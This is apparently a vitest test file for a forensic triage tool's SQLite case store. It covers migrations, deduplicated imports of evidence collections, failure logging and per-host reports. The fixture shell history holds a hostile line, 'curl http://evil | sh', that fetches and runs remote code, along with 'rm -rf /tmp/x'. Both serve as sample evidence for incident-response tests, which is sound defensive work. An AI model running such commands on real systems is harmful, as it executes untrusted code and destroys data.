import { statSync } from 'node:fs';
import { mkdtemp } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import type { ArtifactRecord } from '@triage/artifact-schema';
import { TriageError } from '@triage/errors';
import Database from 'better-sqlite3';
import { describe, expect, it } from 'vitest';
import {
  CASE_DB_VERSION,
  type CollectionOpener,
  type Custody,
  type ImportableCollection,
  importCollection,
  openCaseStore,
  report,
} from './index.js';
import { migrationStatements } from './schema.js';

const at = '2026-11-23T16:00:00.000Z';

function records(): ArtifactRecord[] {
  return [
    {
      kind: 'user_account',
      source: '/etc/passwd',
      collected_at: at,
      username: 'alice',
      uid: 1000,
      gid: 1000,
      gecos: 'Alice',
      home: '/home/alice',
      shell: '/bin/bash',
      password_status: 'set',
      last_change: null,
      min_days: null,
      max_days: null,
      warn_days: null,
      inactive_days: null,
      expires: null,
    },
    { kind: 'group', source: '/etc/group', collected_at: at, name: 'sudo', gid: 27, members: ['alice'] },
    {
      kind: 'shell_history_entry',
      source: '/home/alice/.bash_history',
      collected_at: at,
      user: 'alice',
      shell: 'bash',
      path: '/home/alice/.bash_history',
      line: 1,
      command: 'curl http://evil | sh',
      time: '2026-11-20T10:00:00.000Z',
    },
    {
      kind: 'shell_history_entry',
      source: '/home/alice/.bash_history',
      collected_at: at,
      user: 'alice',
      shell: 'bash',
      path: '/home/alice/.bash_history',
      line: 2,
      command: 'rm -rf /tmp/x',
      time: '2026-11-21T10:00:00.000Z',
    },
  ];
}

interface Fake {
  readonly collection_id: string;
  readonly host?: string;
  readonly records: ArtifactRecord[];
  /** Throw this code after the records instead of ending. */
  readonly failWith?: 'ENVELOPE_TAMPERED' | 'DATA_INVALID';
}

/** Stands in for sealed bytes: JSON of a {@link Fake}. */
function fake(f: Fake): Uint8Array {
  return new TextEncoder().encode(JSON.stringify(f));
}

/** A stand-in for openCollection: reads the bytes, then streams the records with a pause between them. */
const open: CollectionOpener = async (source, options) => {
  if (!options.identities.includes('good-key')) {
    throw new TriageError('ENVELOPE_NO_MATCHING_IDENTITY', 'None of the identities can decrypt this.');
  }
  const chunks: Uint8Array[] = [];
  for await (const chunk of source) chunks.push(chunk);
  const f = JSON.parse(Buffer.concat(chunks).toString('utf8')) as Fake;
  const counts: Record<string, number> = {};
  for (const r of f.records) counts[r.kind] = (counts[r.kind] ?? 0) + 1;
  const manifest = { ended_at: '2026-11-23T16:05:00.000Z', record_count: f.records.length, counts };
  const collection: ImportableCollection = {
    header: { collection_id: f.collection_id, case: 'IR-1', host: f.host ?? 'ws-17', started_at: at },
    async *records() {
      for (const r of f.records) {
        await sleep(2);
        yield r;
      }
      if (f.failWith) throw new TriageError(f.failWith, `the collection is broken (${f.failWith})`);
    },
    finish: async () => {
      if (f.failWith) throw new TriageError(f.failWith, 'broken');
      return { manifest, manifestSha256: 'ab'.repeat(32), signature: null };
    },
    cancel: async () => undefined,
  };
  return collection;
};

const fileCustody: Custody = { kind: 'file', path: '/evidence/ws-17.triage' };

async function dbPath(): Promise<string> {
  return join(await mkdtemp(join(tmpdir(), 'case-store-')), 'case.sqlite');
}

function count(path: string, table: string): number {
  const store = openCaseStore(path);
  try {
    return (store.db.prepare(`SELECT count(*) AS n FROM ${table}`).get() as { n: number }).n;
  } finally {
    store.close();
  }
}

describe('openCaseStore', () => {
  it('creates the file 0600 in WAL mode with foreign keys on and user_version set', async () => {
    const path = await dbPath();
    const store = openCaseStore(path);
    expect(statSync(path).mode & 0o777).toBe(0o600);
    expect(store.db.pragma('journal_mode', { simple: true })).toBe('wal');
    expect(store.db.pragma('foreign_keys', { simple: true })).toBe(1);
    expect(store.db.pragma('user_version', { simple: true })).toBe(CASE_DB_VERSION);
    store.close();
    // Re-opening an up-to-date database is a no-op.
    openCaseStore(path).close();
  });

  it('migrates a version 1 database: its records stay, version 2 views and columns appear', async () => {
    const path = await dbPath();
    const raw = new Database(path);
    for (const statement of migrationStatements(1)) raw.exec(statement);
    raw.pragma('user_version = 1');
    raw
      .prepare(
        `INSERT INTO collections (collection_id, case_id, host, source_kind, started_at, imported_at, examiner)
         VALUES ('old', 'IR-1', 'ws-17', 'file', ?, ?, 'eve')`,
      )
      .run(at, at);
    const alice = records()[0] as ArtifactRecord;
    raw
      .prepare(
        `INSERT INTO artifacts (collection_ref, kind, collected_at, source, user, json) VALUES (1, 'user_account', ?, '/etc/passwd', 'alice', ?)`,
      )
      .run(at, JSON.stringify(alice));
    const v1Columns = raw
      .prepare('SELECT * FROM v_user_account')
      .columns()
      .map((c) => c.name);
    expect(v1Columns).not.toContain('rid');
    expect(
      raw.prepare("SELECT name FROM sqlite_schema WHERE name = 'v_execution_evidence'").get(),
    ).toBeUndefined();
    raw.close();

    const store = openCaseStore(path);
    expect(store.db.pragma('user_version', { simple: true })).toBe(2);
    expect(store.db.prepare('SELECT username, uid, rid, sid, last_logon FROM v_user_account').all()).toEqual([
      { username: 'alice', uid: 1000, rid: null, sid: null, last_logon: null },
    ]);
    const columns = store.db
      .prepare('SELECT * FROM v_user_account')
      .columns()
      .map((c) => c.name);
    // The version 1 columns keep their order; the version 2 ones follow.
    expect(columns.slice(0, v1Columns.length)).toEqual(v1Columns);
    expect(store.db.prepare('SELECT count(*) FROM v_execution_evidence').pluck().get()).toBe(0);
    for (const view of ['v_login_event', 'v_startup_item']) {
      expect(
        store.db
          .prepare(`SELECT * FROM ${view}`)
          .columns()
          .map((c) => c.name),
      ).toContain(view === 'v_login_event' ? 'logon_type' : 'registry_key');
    }
    store.close();
  });

  it('refuses a database of a newer schema version with CONFIG_INVALID', async () => {
    const path = await dbPath();
    openCaseStore(path).close();
    const raw = new Database(path);
    raw.pragma(`user_version = ${CASE_DB_VERSION + 1}`);
    raw.close();
    expect(() => openCaseStore(path)).toThrow(expect.objectContaining({ code: 'CONFIG_INVALID' }));
  });
});

describe('importCollection', () => {
  it('imports records with typed columns, and a second import is skipped with nothing else written', async () => {
    const path = await dbPath();
    const store = openCaseStore(path, { now: () => new Date(at) });
    const bytes = fake({ collection_id: 'c-1', records: records() });
    const first = await importCollection(store, {
      source: bytes,
      custody: fileCustody,
      identities: ['good-key'],
      examiner: 'eve',
      open,
    });
    expect(first).toMatchObject({
      outcome: 'imported',
      collectionId: 'c-1',
      records: 4,
      counts: { user_account: 1, group: 1, shell_history_entry: 2 },
      manifestSha256: 'ab'.repeat(32),
    });
    const row = store.db.prepare('SELECT * FROM collections').get() as Record<string, unknown>;
    expect(row).toMatchObject({
      collection_id: 'c-1',
      case_id: 'IR-1',
      host: 'ws-17',
      source_kind: 'file',
      path: '/evidence/ws-17.triage',
      record_count: 4,
      signature_status: 'none',
      examiner: 'eve',
      imported_at: at,
    });
    expect(row.file_sha256).toMatch(/^[0-9a-f]{64}$/);
    const typed = store.db
      .prepare("SELECT time, user, path FROM artifacts WHERE kind = 'shell_history_entry' ORDER BY id")
      .all();
    expect(typed).toEqual([
      { time: '2026-11-20T10:00:00.000Z', user: 'alice', path: '/home/alice/.bash_history' },
      { time: '2026-11-21T10:00:00.000Z', user: 'alice', path: '/home/alice/.bash_history' },
    ]);

    // Same bytes again (by SHA-256), and the same collection under another path (by collection_id).
    const again = await importCollection(store, {
      source: bytes,
      custody: fileCustody,
      identities: ['good-key'],
      examiner: 'eve',
      open,
    });
    expect(again).toMatchObject({ outcome: 'skipped', collectionId: 'c-1', records: 4 });
    const stream = new ReadableStream<Uint8Array>({
      start(controller) {
        controller.enqueue(fake({ collection_id: 'c-1', records: records().slice(0, 1) }));
        controller.close();
      },
    });
    const copy = await importCollection(store, {
      source: stream,
      custody: { kind: 'file', path: '/elsewhere/copy.triage' },
      identities: ['good-key'],
      examiner: 'eve',
      open,
    });
    expect(copy.outcome).toBe('skipped');
    store.close();
    expect(count(path, 'collections')).toBe(1);
    expect(count(path, 'artifacts')).toBe(4);
    const s = openCaseStore(path);
    expect(s.db.prepare('SELECT outcome FROM import_log ORDER BY id').pluck().all()).toEqual([
      'imported',
      'skipped',
      'skipped',
    ]);
    s.close();
  });

  it('skips an S3 object already imported by bucket, key and version without opening it', async () => {
    const store = openCaseStore(await dbPath());
    const custody: Custody = {
      kind: 's3',
      bucket: 'b',
      key: 'IR-1/ws-17/x.triage',
      versionId: 'v1',
      etag: '"e"',
    };
    const options = { custody, identities: ['good-key'], examiner: 'eve', open } as const;
    const first = await importCollection(store, {
      ...options,
      source: fake({ collection_id: 'c-s3', records: records() }),
    });
    expect(first.outcome).toBe('imported');
    let opened = false;
    const second = await importCollection(store, {
      ...options,
      source: fake({ collection_id: 'different', records: [] }),
      open: async (source, o) => {
        opened = true;
        return open(source, o);
      },
    });
    expect(second).toMatchObject({ outcome: 'skipped', collectionId: 'c-s3' });
    expect(opened).toBe(false);
    expect(store.db.prepare('SELECT bucket, key, version_id, etag FROM collections').get()).toEqual({
      bucket: 'b',
      key: 'IR-1/ws-17/x.triage',
      version_id: 'v1',
      etag: '"e"',
    });
    store.close();
  });

  it.each([
    ['ENVELOPE_TAMPERED', { failWith: 'ENVELOPE_TAMPERED' as const }],
    ['DATA_INVALID', { failWith: 'DATA_INVALID' as const }],
  ])('writes nothing but one failed log row when the records end in %s', async (code, broken) => {
    const path = await dbPath();
    const store = openCaseStore(path);
    await expect(
      importCollection(store, {
        source: fake({ collection_id: 'c-bad', records: records(), ...broken }),
        custody: fileCustody,
        identities: ['good-key'],
        examiner: 'eve',
        open,
      }),
    ).rejects.toMatchObject({ code });
    expect(store.db.inTransaction).toBe(false);
    store.close();
    expect(count(path, 'collections')).toBe(0);
    expect(count(path, 'artifacts')).toBe(0);
    expect(count(path, 'hosts')).toBe(0);
    const s = openCaseStore(path);
    expect(s.db.prepare('SELECT outcome, code, location, collection_id FROM import_log').all()).toEqual([
      { outcome: 'failed', code, location: '/evidence/ws-17.triage', collection_id: 'c-bad' },
    ]);
    s.close();
  });

  it('logs a wrong key as failed and rethrows', async () => {
    const store = openCaseStore(await dbPath());
    await expect(
      importCollection(store, {
        source: fake({ collection_id: 'c-1', records: records() }),
        custody: fileCustody,
        identities: ['other-key'],
        examiner: 'eve',
        open,
      }),
    ).rejects.toMatchObject({ code: 'ENVELOPE_NO_MATCHING_IDENTITY' });
    expect(store.db.prepare('SELECT outcome, code FROM import_log').all()).toEqual([
      { outcome: 'failed', code: 'ENVELOPE_NO_MATCHING_IDENTITY' },
    ]);
    expect(store.db.prepare('SELECT count(*) FROM collections').pluck().get()).toBe(0);
    store.close();
  });

  it('two concurrent imports of one collection through two connections: exactly one imported', async () => {
    const path = await dbPath();
    const a = openCaseStore(path);
    const b = openCaseStore(path);
    const many = Array.from({ length: 20 }, () => records()).flat();
    const run = (store: typeof a, where: string) =>
      importCollection(store, {
        // Separate (stream) sources, so neither can be skipped by hash before reading.
        source: (async function* () {
          yield fake({ collection_id: 'c-race', records: many });
        })(),
        custody: { kind: 'file', path: where },
        identities: ['good-key'],
        examiner: 'eve',
        open,
      });
    const results = await Promise.all([run(a, '/a.triage'), run(b, '/b.triage')]);
    expect(results.map((r) => r.outcome).sort()).toEqual(['imported', 'skipped']);
    expect(a.db.prepare('SELECT count(*) FROM collections').pluck().get()).toBe(1);
    expect(b.db.prepare('SELECT count(*) FROM artifacts').pluck().get()).toBe(many.length);
    a.close();
    b.close();
  });
});

describe('views and report', () => {
  it('one view per kind with the fields as columns, and a per-host report', async () => {
    const store = openCaseStore(await dbPath());
    await importCollection(store, {
      source: fake({ collection_id: 'c-1', records: records() }),
      custody: fileCustody,
      identities: ['good-key'],
      examiner: 'eve',
      open,
    });
    await importCollection(store, {
      source: fake({ collection_id: 'c-2', host: 'db-1', records: records().slice(1, 2) }),
      custody: { kind: 'file', path: '/evidence/db-1.triage' },
      identities: ['good-key'],
      examiner: 'eve',
      open,
    });
    expect(store.db.prepare('SELECT host, username, uid, shell FROM v_user_account').all()).toEqual([
      { host: 'ws-17', username: 'alice', uid: 1000, shell: '/bin/bash' },
    ]);
    expect(store.db.prepare('SELECT host, name, members FROM v_group ORDER BY host').all()).toEqual([
      { host: 'db-1', name: 'sudo', members: '["alice"]' },
      { host: 'ws-17', name: 'sudo', members: '["alice"]' },
    ]);
    expect(store.db.prepare('SELECT command FROM v_shell_history_entry ORDER BY line').pluck().all()).toEqual(
      ['curl http://evil | sh', 'rm -rf /tmp/x'],
    );
    const views = store.db
      .prepare("SELECT name FROM sqlite_schema WHERE type = 'view' ORDER BY name")
      .pluck()
      .all();
    expect(views).toHaveLength(14);
    expect(views).toContain('v_execution_evidence');
    expect(
      store.db.prepare('SELECT case_id, name, first_seen, last_seen FROM hosts ORDER BY name').all(),
    ).toEqual([
      { case_id: 'IR-1', name: 'db-1', first_seen: at, last_seen: '2026-11-23T16:05:00.000Z' },
      { case_id: 'IR-1', name: 'ws-17', first_seen: at, last_seen: '2026-11-23T16:05:00.000Z' },
    ]);
    expect(report(store)).toEqual([
      {
        case: 'IR-1',
        host: 'db-1',
        collections: 1,
        kinds: [{ kind: 'group', count: 1, firstTime: null, lastTime: null }],
      },
      {
        case: 'IR-1',
        host: 'ws-17',
        collections: 1,
        kinds: [
          { kind: 'group', count: 1, firstTime: null, lastTime: null },
          {
            kind: 'shell_history_entry',
            count: 2,
            firstTime: '2026-11-20T10:00:00.000Z',
            lastTime: '2026-11-21T10:00:00.000Z',
          },
          { kind: 'user_account', count: 1, firstTime: null, lastTime: null },
        ],
      },
    ]);
    store.close();
  });
});
